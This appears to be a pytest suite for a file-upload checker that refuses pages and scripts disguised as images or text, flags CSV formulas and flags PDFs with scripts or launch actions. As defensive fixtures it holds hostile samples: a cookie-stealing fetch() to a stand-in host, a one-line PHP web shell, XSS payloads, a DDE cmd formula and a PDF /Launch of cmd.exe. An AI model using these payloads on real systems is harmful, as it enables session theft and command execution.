"""Pages, scripts and programs under the name of a text, a PDF or an image (D-37)."""

import csv
import io
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from formapp.rules.file_formulas import FORMULA, look_at_cells
from formapp.rules.pdf_contents import ANOTHER_FILE, SCRIPT, STARTS_SOMETHING
from formapp.rules.plain_text import ESCAPE_CODES
from tests.sample_files import HTML, SVG, XML, checked, gif, jpg, jpg_segment, packed_objects, pdf, png, png_chunk, refusal

SCRIPT_FILE = b"fetch('//example.net/' + document.cookie)"


@pytest.mark.parametrize(
    "content", [SVG, HTML, XML, SCRIPT_FILE, b"<html>", b"\xef\xbb\xbf" + SVG], ids=["svg", "html", "xml", "js", "html tag", "marked svg"]
)
@pytest.mark.parametrize("extension", ["png", "jpg", "jpeg", "gif", "pdf"])
def test_d37_a_page_or_script_under_an_images_name_is_refused(content: bytes, extension: str) -> None:
    assert "does not look like a" in refusal(f"x.{extension}", content)


@pytest.mark.parametrize("name", ["x.svg", "x.html", "x.htm", "x.xml", "x.js", "x.xhtml", "x.mhtml", "x.php", "x.shtml", "x.hta"])
def test_d37_a_page_or_script_under_its_own_name_is_refused(name: str) -> None:
    assert "must be a PNG" in refusal(name, HTML)


MARKUP = [
    SVG,
    HTML,
    XML,
    b"<html>",
    b"<HTML lang=en>",
    b" \r\n\t\f" * 5000 + HTML,
    b"\xef\xbb\xbf\n<!-- x --><b>",
    "\ufeff<svg>".encode("utf-16-le"),
    "\ufeff \n<!doctype html>".encode("utf-16-be"),
    "\u00a0\u2028<script>".encode(),
    b"<script>alert(1)</script>",
    b"<script src=//example.net>",
    b"<ScRiPt/x>",
    b"<?php system($_GET[0]); ?>",
    b"<?= 1 ?>",
    b"<%@ page %>",
    b"<?xml version='1.0'?><note/>",
    b"<note><to>Ann</to></note>\n",
    b"<svg:svg xmlns:svg='http://www.w3.org/2000/svg'/>",
    b"<details open ontoggle=alert(1)>x",
    b"<x/onclick=alert(1)>x",
    b"<img src=x>",
    b"<iframe src=x>",
    b"<a href=x>",
    b"<style>*{}</style>x",
]


@pytest.mark.parametrize("content", MARKUP)
@pytest.mark.parametrize("extension", ["txt", "csv", "log"])
def test_d37_markup_under_a_texts_name_is_refused(content: bytes, extension: str) -> None:
    said = refusal(f"x.{extension}", content)
    assert said == f"x.{extension}: the selected file does not look like a {extension.upper()}: save it as one again, or choose another"


TEXTS = [
    b"<34>Oct 11 22:14:15 web su: 'su root' failed for ann on /dev/pts/8\n",
    b"<165>1 2026-11-23T04:28:00Z web app - - - it stopped\n",
    b"<info>  [1700000000.1] manager: started\n<warn> [1700000000.2] dhcp: none\n",
    b"<ann@example.net> wrote:\n> it stopped\n",
    b"<Ann> hi\n<bob> hello\n",
    b"<10:32:11> it stopped\n",
    b"< HTTP/1.1 500 Internal Server Error\n< Content-Type: text/html\n<\n<html>it stopped</html>\n",
    b"2026-11-23 ERROR in template: <script>alert(1)</script>\n",
    b'{"time":"2026-11-23","message":"it stopped"}\n{"time":"2026-11-24"}\n',
    b"From: Ann <ann@example.net>\nSubject: it stopped\n\nIt stopped.\n",
    b'"a ""quoted"" word",1+1=2,"two\nlines"\n;;\n',
    b'{\n  "a": [1, 2]\n}',
    b"#!/bin/sh\nset -eu\n",
    b"\xef\xbb\xbfname;amount\nZo\xc3\xab;10\n",
    b"na\xefve \x93quoted\x94 \x80100\r\n",
    b"caf\xe9 \xe2\x80\x9cmixed\xe2\x80\x9d\n",
    "скриншот\n".encode()[1:-2],
    "\ufeffname\tamount\r\nZoë\t10\r\n".encode("utf-16-le"),
    "\ufeff𝄞 日本語\n".encode("utf-16-be"),
    b"page one\x0cpage two\t\ttab\r",
    b"x",
    b"\n",
    b"\xff\xfe",
    ("日本語" * 30_000).encode(),
]


@pytest.mark.parametrize("content", TEXTS)
@pytest.mark.parametrize("extension", ["txt", "csv", "log"])
def test_d37_ordinary_texts_are_taken(content: bytes, extension: str) -> None:
    assert checked(f"x.{extension}", content).warning is None


@pytest.mark.parametrize(
    "content",
    [
        b"a\0b",
        b"MZ\x90\0\3",
        b"\x7fELF\2\1\1",
        b"text\n" * 20_000 + b"\1",
        "no mark\n".encode("utf-16-le"),
        "\ufeffa\0b".encode("utf-16-le"),
        b"\xff\xfea\xd8a\0",
        "\ufefftext".encode("utf-32-le"),
        b"%PDF-1.7\n",
        b"%!PS-Adobe-3.0\n",
        b"{\\rtf1\\ansi}",
        b"GIF89a=1;alert(1)",
        bytes(range(256)),
    ],
)
def test_d37_what_is_no_text_is_refused_under_a_texts_name(content: bytes) -> None:
    assert "does not look like a TXT" in refusal("x.txt", content)


def test_d37_colours_in_a_log_are_taken_and_staff_are_told() -> None:
    assert checked("x.log", b"\x1b[31mFAILED\x1b[0m it stopped\n").warning == ESCAPE_CODES


FORMULAS = [
    "=1+1",
    "name,=HYPERLINK(A1)\n",
    "name;=1+1",
    "name\t=1+1",
    "name,@SUM(1+1)",
    "name\n-2+3+cmd|' /C calc'!A0\n",
    "name\r+A1\r",
    'name,"=1+1"',
    'name,""=1+1',
    'name,"\n\t=1+1"',
    "name\n\t=1+1",
    "\ufeff=1+1",
    "name,\uff1d1+1",
    "sep=|\r\nname|=1+1",
    "sep=^\r\nname^=1+1",
    '"two\nlines; and more",=1+1',
    'five"inches,=1+1,"x"',
    "<- sent\n-> received\n",
    "-1,5\n" * 90_000 + "=1+1",
]


@pytest.mark.parametrize("content", FORMULAS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_d37_a_formula_in_a_csv_is_taken_and_staff_are_told(content: str, encoding: str) -> None:
    encoded = content.removeprefix("\ufeff").encode("utf-16") if encoding == "utf-16" else content.encode()
    assert checked("x.csv", encoded).warning == FORMULA
    assert checked("x.txt", encoded).warning == checked("x.log", encoded).warning is None


@pytest.mark.parametrize(
    "content",
    [
        "-5,Widget\n-6;Widget\n",
        'a,-,--,-1.5e3,-12%,-$5,"-1,234.50",+61 2 5550 1234,-',
        "a=b,c@d,e-f,g+h\n",
        '"Two things:\n- one, - two\n=three","a ""quoted"",=word"',
        "Hello, - world",
        '\'=1+1," =1+1"',
        '"""=1+1"""',
        "name|=1+1",
        '"not closed,=1+1',
    ],
)
def test_d37_a_csv_of_numbers_dashes_and_prose_has_no_warning(content: str) -> None:
    assert checked("x.csv", content.encode()).warning is None


def test_d37_a_formula_is_the_worse_of_two_warnings() -> None:
    assert checked("x.csv", b"\x1b[31m\n=1+1").warning == FORMULA
    assert checked("x.csv", b"\x1b[31m\n1+1").warning == ESCAPE_CODES


@given(st.lists(st.sampled_from(['"', '""', ",", "\n", "\r\n", "\t", "=", "@", "a", " "]), max_size=12).map("".join))
def test_d37_formulas_are_seen_where_a_reader_of_csv_finds_them(content: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    if any(cell.lstrip("\t\r\n").startswith(("=", "@")) for cell in cells):
        assert look_at_cells(io.BytesIO(content.encode())) == FORMULA


@pytest.mark.parametrize(
    ("content", "warning"),
    [
        (pdf(), None),
        (pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), SCRIPT),
        (pdf(b"<</S /JavaScript /JS 5 0 R>>"), SCRIPT),
        (pdf(b"<</S/J#61vaScri#70t/J#53 (x)>>"), SCRIPT),
        (pdf(b"<</S/Rendition/JS (x)>>"), SCRIPT),
        (pdf(b"<</S/Launch/F(cmd.exe)>>"), STARTS_SOMETHING),
        (pdf(trailer=b"/OpenAction<</S/URI/URI(http://example.net)>>"), STARTS_SOMETHING),
        (pdf(trailer=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), None),
        (pdf(trailer=b"/OpenAction[3 0 R/Fit]"), None),
        (pdf(b"<</Type/EmbeddedFile/Length 1>>"), ANOTHER_FILE),
        (pdf(b"<</Type/EmbeddedFile>>", b"<</S/Launch>>", b"<</S/JavaScript>>"), SCRIPT),
        (pdf(packed_objects(b"1 0 <</Type/Catalog/Names<</JavaScript 5 0 R>>>>")), SCRIPT),
        (pdf(packed_objects(b"x" * 200_000 + b"/S/Launch ")), STARTS_SOMETHING),
        (pdf(packed_objects(b"1 0 <</Type/Catalog>>")), None),
        (pdf(b"<<" + b" " * 65_400 + b"/S/JavaScript>>"), SCRIPT),
        (pdf(b"<</Title(About JavaScript and /JSON)>>"), None),
        (pdf(b"stream\n" + b"\x00/JS\xff\x13/JSx /Launcher" + b"\nendstream"), None),
    ],
)
def test_d37_a_pdf_with_a_script_is_taken_and_staff_are_told(content: bytes, warning: str | None) -> None:
    assert checked("x.pdf", content).warning == warning


@pytest.mark.parametrize(
    "content",
    [
        pdf(trailer=b"/Encrypt 4 0 R"),
        pdf(trailer=b"/Encrypt<</Filter/Standard>>"),
        pdf(trailer=b"/#45ncrypt 4 0 R"),
        pdf(b"<<" + b" " * 65_440 + b">>", trailer=b"/Encrypt\n12 0 R"),
    ],
)
def test_a_pdf_with_a_password_is_refused_by_that_name(content: bytes) -> None:
    assert "is password protected" in refusal("x.pdf", content)


def test_a_pdf_that_only_speaks_of_encryption_is_taken() -> None:
    assert checked("x.pdf", pdf(b"<</Title(How /Encrypt works)/EncryptMetadata true>>")).warning is None


@pytest.mark.parametrize("content", [gif() + HTML, jpg(before=jpg_segment(0xFE, HTML)), png(more=png_chunk(b"tEXt", b"Comment\0" + HTML))])
def test_d37_an_image_that_is_also_a_page_is_taken_as_an_image_only(content: bytes) -> None:
    # It does no harm as what it is served as: a download with nosniff and a sandbox.
    extension = {b"G": "gif", b"\xff": "jpg", b"\x89": "png"}[content[:1]]
    assert checked(f"x.{extension}", content).kind == extension
    assert "does not look like a TXT" in refusal("x.txt", content)


@pytest.mark.parametrize("name", [b"/S/JavaScript ", b"/S/Launch "])
def test_d37_a_script_is_seen_wherever_the_pieces_meet_in_which_a_pdf_is_read(name: bytes) -> None:
    for start in range(65_536 - len(name), 65_537):
        assert checked("x.pdf", b"%PDF-1.7\n".ljust(start) + name).warning is not None, start


def test_a_password_is_seen_wherever_the_pieces_meet_in_which_a_pdf_is_read() -> None:
    reference = b"/Encrypt 12 0 R "
    for start in range(65_536 - len(reference), 65_537):
        assert "is password protected" in refusal("x.pdf", b"%PDF-1.7\n".ljust(start) + reference)


def test_d39_only_so_many_packed_streams_are_looked_into() -> None:
    nothing, script = packed_objects(b"1 0 <<>>"), packed_objects(b"/S/JavaScript ")
    assert checked("x.pdf", pdf(*[nothing] * 99, script)).warning == SCRIPT
    assert checked("x.pdf", pdf(*[nothing] * 100, script)).warning is None


def test_d39_only_so_much_of_packed_streams_is_looked_into() -> None:
    script = packed_objects(b"/S/JavaScript ")
    assert checked("x.pdf", pdf(packed_objects(b" " * 7_500_000), script)).warning == SCRIPT
    assert checked("x.pdf", pdf(packed_objects(b" " * 8_500_000), script)).warning is None


def test_a_name_is_seen_in_a_packed_stream_that_says_nothing_in_its_middle() -> None:
    pack = zlib.compressobj()
    parts = [pack.compress(half) + pack.flush(zlib.Z_FULL_FLUSH) for half in (b"/S/Java", b"Script ")]
    nothing = b"\0\0\0\xff\xff" * 4000
    assert checked("x.pdf", pdf(b"/ObjStm stream\n" + nothing.join(parts) + pack.flush())).warning == SCRIPT


def test_a_packed_stream_is_looked_into_though_its_sum_is_wrong() -> None:
    assert checked("x.pdf", pdf(b"/ObjStm stream\n" + zlib.compress(b"/S/Launch ")[:-4] + b"\0\0\0\0")).warning == STARTS_SOMETHING


@pytest.mark.parametrize("between", [b"/ObjStm", b"/ObjStm stream", b"stream", b"/ObjStm" + b" " * 300], ids=repr)
def test_a_packed_stream_is_found_after_words_that_only_look_like_one(between: bytes) -> None:
    assert checked("x.pdf", pdf(between * 50, packed_objects(b"/S/Launch "))).warning == STARTS_SOMETHING
